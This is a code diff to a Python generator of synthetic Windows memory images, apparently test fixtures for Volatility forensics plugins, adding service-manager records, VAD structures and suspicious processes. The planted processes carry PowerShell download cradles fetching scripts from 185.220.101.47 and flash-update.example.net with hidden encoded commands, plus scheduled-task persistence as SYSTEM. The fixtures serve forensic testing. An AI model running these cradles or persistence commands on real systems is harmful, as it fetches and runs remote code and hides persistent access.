@@ -34,6 +34,9 @@ from dataclasses import dataclass, field
 from datetime import datetime, timezone
 from pathlib import Path
 
+from test_images.taskcache_scenarios import task_guid
+from test_images.windows_tree import ENCODED_CRADLE, ENCODED_PS_TASK, HOSTNAME
+
 VOLATILITY_VERSION = "2.28.2"
 PAGE = 0x1000
 KERNEL_DTB = 0x1AA000  # inside the window volatility's DTB scan looks at first
@@ -121,12 +124,20 @@ def _types(win7: bool) -> dict:
     struct("_MM_SESSION_SPACE", 0x100, {"ReferenceCount": (0, _b("long")), "SessionId": (8, U32)})
     if win7:
         struct("_HANDLE_TABLE", 0x68, {"TableCode": (0, U64), "UniqueProcessId": (0x10, VOIDP), "HandleCount": (0x58, U32)})
-        struct("_MM_AVL_TABLE", 0x40, {"NumberGenericTableElements": (0x18, U64)})
+        # VAD tree (svcscan scans services.exe's VADs for the SCM's service records)
+        struct("_MM_AVL_TABLE", 0x40, {"BalancedRoot": (0, _s("_MMADDRESS_NODE")), "NumberGenericTableElements": (0x18, U64)})
+        node = {"u1": (0, U64), "LeftChild": (8, _p(_s("_MMADDRESS_NODE"))), "RightChild": (0x10, _p(_s("_MMADDRESS_NODE"))),
+                "StartingVpn": (0x18, U64), "EndingVpn": (0x20, U64)}
+        struct("_MMADDRESS_NODE", 0x28, node)
+        struct("_MMVAD_SHORT", 0x40, node)
     else:
         # no HandleCount member, as on real Win10: volatility prints "-" for Handles
         struct("_HANDLE_TABLE", 0x80, {"NextHandleNeedingPool": (0, U32), "TableCode": (8, U64)})
         struct("_RTL_AVL_TREE", 8, {"Root": (0, _p(_s("_RTL_BALANCED_NODE")))})
-        struct("_RTL_BALANCED_NODE", 0x18, {"ParentValue": (0x10, U64)})
+        struct("_RTL_BALANCED_NODE", 0x18, {"Left": (0, _p(_s("_RTL_BALANCED_NODE"))), "Right": (8, _p(_s("_RTL_BALANCED_NODE"))),
+                                            "ParentValue": (0x10, U64)})
+        struct("_MMVAD_SHORT", 0x40, {"VadNode": (0, _s("_RTL_BALANCED_NODE")), "StartingVpn": (0x18, U32),
+                                      "EndingVpn": (0x1C, U32), "StartingVpnHigh": (0x20, U8), "EndingVpnHigh": (0x21, U8)})
         struct("_EWOW64PROCESS", 0x10, {"Peb": (0, VOIDP), "Machine": (8, U16)})
     struct("_EX_FAST_REF", 8, {"Object": (0, VOIDP), "Value": (0, U64)}, "union")
     struct("_TOKEN", 0x310 if win7 else 0x498,
@@ -375,6 +386,19 @@ USER_SID = "S-1-5-21-2146493349-1640112132-851775531-1001"
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
 CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
 POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+# Windows 10: the disk image's (test_images/windows_tree.py) encoded-PowerShell task running under taskhostw.exe,
+# whose argument is that task's GUID; the in-memory TaskCache does not hold it (its cells were paged out), so on
+# its own the memory image shows a running task no definition names.
+DISK_TASK_GUID = task_guid(ENCODED_PS_TASK)
+DISK_CRADLE_COMMAND = f'"{POWERSHELL}" -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED_CRADLE}'
+REGISTER_COMMAND = (f'"{POWERSHELL}" -NoProfile -Command "Register-ScheduledTask -TaskName EdgeSync -TaskPath \\Microsoft\\ '
+                    '-Action (New-ScheduledTaskAction -Execute C:\\Users\\Public\\edge.exe -Argument --sync) '
+                    '-Trigger (New-ScheduledTaskTrigger -AtLogOn) -User SYSTEM"')
+# Windows 7: a download cradle run by taskeng.exe for a task the in-memory TaskCache does not hold.
+WIN7_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://flash-update.example.net/s.ps1')"
+WIN7_CRADLE_COMMAND = ("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
+                       + base64.b64encode(WIN7_CRADLE.encode("utf-16-le")).decode())
+WIN7_HOSTNAME = "WIN7-PC"
 
 
 @dataclass
@@ -421,6 +445,7 @@ class Scenario:
     processes: list[Proc]
     tasks: list[Task]
     hive_user_space: bool  # Win10: hive bins live in the Registry process
+    hostname: str = ""  # SYSTEM ...\Control\ComputerName\ComputerName
 
 
 def _win10() -> Scenario:
@@ -448,6 +473,13 @@ def _win10() -> Scenario:
              r"C:\Windows\system32\rundll32.exe", threads=5),
         Proc(7016, 1236, "svcupd.exe", "2024-05-14T09:30:00Z", r'"C:\ProgramData\SysUpdate\svcupd.exe" --silent',
              r"C:\ProgramData\SysUpdate\svcupd.exe", threads=3),
+        Proc(7400, 1236, "taskhostw.exe", "2024-05-14T09:40:00Z", f"taskhostw.exe {DISK_TASK_GUID}",
+             r"C:\Windows\system32\taskhostw.exe", session=1, sid=USER_SID, threads=6),
+        Proc(7412, 7400, "powershell.exe", "2024-05-14T09:40:01Z", DISK_CRADLE_COMMAND, POWERSHELL, session=1, sid=USER_SID,
+             threads=11),
+        # a user's PowerShell that registered a task and exited: only pool scanning still finds it
+        Proc(7508, 2980, "powershell.exe", "2024-05-14T09:45:00Z", REGISTER_COMMAND, POWERSHELL, session=1, sid=USER_SID,
+             threads=0, exit="2024-05-14T09:45:02Z", linked=False),
     ]
     tasks = [
         Task(r"\Microsoft\Windows\Wininet\CacheTask", "{5D8E0B6F-4C2A-4E1B-9F1D-3A6C2B7E8F90}",
@@ -464,7 +496,7 @@ def _win10() -> Scenario:
              "2024-05-14T09:12:13Z", None, index=0, author=r"NT AUTHORITY\SYSTEM"),
     ]
     return Scenario("win10", False, uuid.UUID("1f4b5a42-7c2d-4e0b-9a3f-5c7e2b1d0a11"), 1, (10, 0, 19041, 1),
-                    0xFFFFF8017A200000, 0xFFFFC30A1B000000, "2024-05-14T08:11:40Z", procs, tasks, True)
+                    0xFFFFF8017A200000, 0xFFFFC30A1B000000, "2024-05-14T08:11:40Z", procs, tasks, True, HOSTNAME)
 
 
 def _win7() -> Scenario:
@@ -483,17 +515,23 @@ def _win7() -> Scenario:
         Proc(2412, 900, "taskeng.exe", "2019-03-05T08:15:00Z", r"taskeng.exe {7A3F9C21-5B4E-4D8A-9E6F-1C2B3D4E5F60} S-1-5-18:NT AUTHORITY\System:Service:",
              r"C:\Windows\system32\taskeng.exe", threads=5),
         Proc(2520, 2412, "cmd.exe", "2019-03-05T08:15:01Z", r'C:\Windows\system32\cmd.exe /c "C:\Windows\Temp\bk.bat"', r"C:\Windows\system32\cmd.exe", threads=1),
+        Proc(2536, 2412, "powershell.exe", "2019-03-05T08:15:02Z", WIN7_CRADLE_COMMAND,
+             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", threads=7),
+        Proc(2000, 1820, "schtasks.exe", "2019-03-05T08:10:00Z",
+             r'schtasks.exe /create /tn AdobeFlashSync /tr "cmd.exe /c C:\Windows\Temp\bk.bat" /sc onstart /ru SYSTEM /f',
+             r"C:\Windows\system32\schtasks.exe", session=1, sid=USER_SID, threads=0, exit="2019-03-05T08:10:01Z",
+             linked=False),
     ]
     tasks = [
         Task(r"\AdobeFlashSync", "{3DC1692F-C720-4D79-BC69-9032ABF0CB22}",
              [("exec", "cmd.exe", r'/c "C:\Windows\Temp\bk.bat"', "")], "LocalSystem", SYSTEM_SID,
-             "2019-03-04T22:10:05Z", "2019-03-05T08:15:00Z", author=r"WIN7-PC\admin"),
+             "2019-03-05T08:10:01Z", "2019-03-05T08:15:00Z", author=r"WIN7-PC\admin"),
         Task(r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{6C4A1E2B-3D5F-4A7B-8C9D-0E1F2A3B4C5D}",
              [("exec", r"%windir%\system32\defrag.exe", "-c", "")], "LocalSystem", SYSTEM_SID,
              "2009-07-14T04:53:53Z", "2019-03-01T01:00:00Z"),
     ]
     return Scenario("win7", True, uuid.UUID("3844dbb9-2017-4967-be7a-a4a2c20430fa"), 2, (6, 1, 7601, 17514),
-                    0xFFFFF80002A00000, 0xFFFFFA8000C00000, "2019-03-05T07:58:00Z", procs, tasks, False)
+                    0xFFFFF80002A00000, 0xFFFFFA8000C00000, "2019-03-05T07:58:00Z", procs, tasks, False, WIN7_HOSTNAME)
 
 
 SCENARIOS = {"win10": _win10, "win7": _win7}
@@ -770,6 +808,8 @@ def system_hive(scenario: Scenario) -> Key:
     root = Key("ROOT", scenario.boot)
     select = root.sub("Select", scenario.boot)
     select.values += [("Current", *_dword(1)), ("Default", *_dword(1))]
+    root.sub(r"ControlSet001\Control\ComputerName\ComputerName", scenario.boot).values.append(
+        ("ComputerName", *_sz(scenario.hostname)))
     root.sub(r"ControlSet001\Services\Schedule", scenario.boot).values += [
         ("ImagePath", *_sz(r"%systemroot%\system32\svchost.exe -k netsvcs" + ("" if scenario.win7 else " -p"))), ("Start", *_dword(2))]
     return root
@@ -879,6 +919,7 @@ class _Builder:
             self.kwrite(entry, struct.pack("<QQ", _canon(ring[(i + 1) % len(ring)]), _canon(ring[i - 1])))
         for proc in procs:
             self._eprocess(proc, eprocs[proc.pid], sessions)
+        self.eprocs = eprocs
 
     def _eprocess(self, proc: Proc, ep: int, sessions: dict[int, int]) -> None:
         lay, E = self.lay, "_EPROCESS"
@@ -962,6 +1003,75 @@ class _Builder:
         self.mem.write(dtb, params + lay.off(P, "EnvironmentSize"), struct.pack("<Q", len(env_raw)), True)
         return peb
 
+    # Service Control Manager ------------------------------------------------------------------------
+    SCM_REGION = 0x000001F000000000  # services.exe's heap holding the service database (one VAD)
+
+    def services(self, procs: list[Proc]) -> None:
+        """The SCM's service records in services.exe (what volatility's svcscan finds): a ``serH`` header
+        pointing to the newest ``_SERVICE_RECORD``, older ones chained through PrevEntry, each running
+        service with its ``_SERVICE_PROCESS`` (binary path, PID); and the one VAD that covers them."""
+        services = next(p for p in procs if p.name == "services.exe")
+        dtb, region = self.process_dtbs[services.pid], self.SCM_REGION
+        self.mem.write(dtb, region, bytes(0x3000), True)
+        heap = Bump(region + 0x40)
+        strings = Bump(region + 0x2000)
+
+        def wstr(text: str) -> int:
+            at = strings.take(len(text) * 2 + 2, 8)
+            self.mem.write(dtb, at, _utf16z(text), True)
+            return at
+
+        # (offsets) Win10 19041 x64 / Vista..7 x64, as in volatility's services-*.json
+        if self.win7:
+            rec = {"size": 0x88, "PrevEntry": 0, "ServiceName": 8, "DisplayName": 0x10, "Order": 0x18, "Tag": 0x20,
+                   "ServiceProcess": 0x28, "Type": 0x30, "State": 0x34, "Start": 0x4C}
+            sp = {"size": 0x20, "BinaryPath": 0x10, "ProcessId": 0x18}
+        else:
+            rec = {"size": 0x140, "PrevEntry": 0x10, "Order": 0x20, "Start": 0x24, "ServiceName": 0x38, "DisplayName": 0x40,
+                   "Type": 0x48, "State": 0x4C, "ServiceProcess": 0x128}
+            sp = {"size": 0x30, "BinaryPath": 0x18, "ProcessId": 0x28}
+        wanted = [("DcomLaunch", "DCOM Server Process Launcher", "-k DcomLaunch"), ("EventLog", "Windows Event Log", "EventLog"),
+                  ("Schedule", "Task Scheduler", "Schedule")]
+        previous = 0
+        for order, (name, display, marker) in enumerate(wanted, start=1):
+            host = next((p for p in procs if p.name == "svchost.exe" and p.cmdline and
+                         (marker in p.cmdline or (name == "Schedule" and p.cmdline.endswith("-k netsvcs")))), None)
+            if host is None:
+                continue
+            record = heap.take(rec["size"], 16)
+            blob = bytearray(rec["size"])
+            struct.pack_into("<Q", blob, rec["PrevEntry"], previous)
+            struct.pack_into("<Q", blob, rec["ServiceName"], wstr(name))
+            struct.pack_into("<Q", blob, rec["DisplayName"], wstr(display))
+            struct.pack_into("<I", blob, rec["Order"], order)
+            if "Tag" in rec:
+                blob[rec["Tag"]:rec["Tag"] + 4] = b"sErv"
+            struct.pack_into("<IiI", blob, rec["Type"], 0x20, 4, 0)  # SERVICE_WIN32_SHARE_PROCESS, SERVICE_RUNNING
+            struct.pack_into("<i", blob, rec["Start"], 2)  # SERVICE_AUTO_START
+            process = heap.take(sp["size"], 16)
+            pblob = bytearray(sp["size"])
+            struct.pack_into("<Q", pblob, sp["BinaryPath"], wstr(host.cmdline.replace(r"C:\Windows", r"%SystemRoot%", 1)))
+            struct.pack_into("<I", pblob, sp["ProcessId"], host.pid)
+            self.mem.write(dtb, process, bytes(pblob), True)
+            struct.pack_into("<Q", blob, rec["ServiceProcess"], process)
+            self.mem.write(dtb, record, bytes(blob), True)
+            previous = record
+        self.mem.write(dtb, region, b"serH" + bytes(12) + struct.pack("<Q", previous), True)
+        # the VAD: a pool block tagged VadS, its node covering the region (Win7: right child of the sentinel)
+        block = self.pool.take(0x10 + self.lay.size("_MMVAD_SHORT"), 16)
+        self.kwrite(block, struct.pack("<BBBB4sQ", 0, 0, 5, 2, b"VadS", 0))
+        vad = block + 0x10
+        first, last = region >> 12, (region + 0x3000 - 1) >> 12
+        if self.win7:
+            self.kwrite(vad, struct.pack("<QQQQQ", 0, 0, 0, first, last))
+        else:
+            self.kwrite(vad, struct.pack("<QQQIIBB", 0, 0, 0, first & 0xFFFFFFFF, last & 0xFFFFFFFF, first >> 32, last >> 32))
+        vad_root = self.eprocs[services.pid] + self.lay.off("_EPROCESS", "VadRoot")
+        if self.win7:
+            self.kwrite(vad_root + 0x10, struct.pack("<Q", _canon(vad)))  # BalancedRoot.RightChild
+        else:
+            self.kwrite(vad_root, struct.pack("<Q", _canon(vad)))  # Root
+
     # registry ---------------------------------------------------------------------------------------
     def hives(self) -> None:
         lay = self.lay
@@ -1037,14 +1147,17 @@ class _Builder:
 
 
 def build_memory_image(out_dir, scenario: str = "win10", n_extra_processes: int = 0, size_mb: int | None = None,
-                       compress_symbols: bool = True) -> dict:
-    """Write ``image.raw``, the ISF under ``symbols/`` and ``layout.json`` (ground truth) into ``out_dir``."""
+                       compress_symbols: bool = True, scm_records: bool = True) -> dict:
+    """Write ``image.raw``, the ISF under ``symbols/`` and ``layout.json`` (ground truth) into ``out_dir``.
+    ``scm_records=False`` leaves out the Service Control Manager's records (as when services.exe's heap is paged out)."""
     out = Path(out_dir)
     sc = SCENARIOS[scenario]()
     procs = list(sc.processes) + _extra_processes(sc, n_extra_processes)
     builder = _Builder(sc)
     builder.kernel()
     builder.processes(procs)
+    if scm_records:
+        builder.services(procs)
     builder.hives()
     if size_mb:
         builder.filler(size_mb * 0x100000)
